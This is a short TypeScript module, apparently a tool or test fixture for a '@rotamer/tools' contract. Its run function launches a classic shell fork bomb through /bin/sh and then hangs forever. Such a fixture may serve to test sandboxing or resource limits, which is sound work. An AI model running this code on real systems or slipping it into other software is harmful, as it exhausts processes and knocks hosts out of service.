import { spawn } from 'node:child_process';
import type { Run } from '@rotamer/tools/contract.ts';

/** The classic fork bomb. */
export const run: Run = async () => {
  spawn('/bin/sh', ['-c', 'bomb() { bomb | bomb & }; bomb; sleep 60'], { stdio: 'ignore' });
  await new Promise(() => setInterval(() => {}, 1000));
};
